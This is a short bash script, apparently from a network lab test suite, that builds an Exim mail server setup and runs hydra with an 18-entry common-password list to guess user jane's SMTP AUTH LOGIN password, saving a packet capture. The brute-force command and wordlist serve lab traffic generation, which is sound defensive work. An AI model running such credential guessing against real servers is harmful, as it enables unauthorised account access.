#!/bin/bash
# hydra guesses jane's password at Exim: 18 wrong ones with AUTH LOGIN, two connections at a time.
set -euo pipefail
# shellcheck source=tests/lab/lib.sh
. "$(dirname "$0")/../lib.sh"
lab_open 37-hydra-auth
lab_site_exim
lab_site_tools
lab_dns
lab_exim_mx exim
lab_capture exim
printf '%s\n' 123456 password qwerty letmein jane jane2026 summer winter welcome secret master dragon monkey abc123 football iloveyou trustno1 princess >"$LAB_WORK/passwords"
lab_in tools hydra -t 2 -l jane -P "$LAB_WORK/passwords" smtp://198.51.100.26 >"$LAB_WORK/hydra.log" 2>&1 || true
lab_save pcap
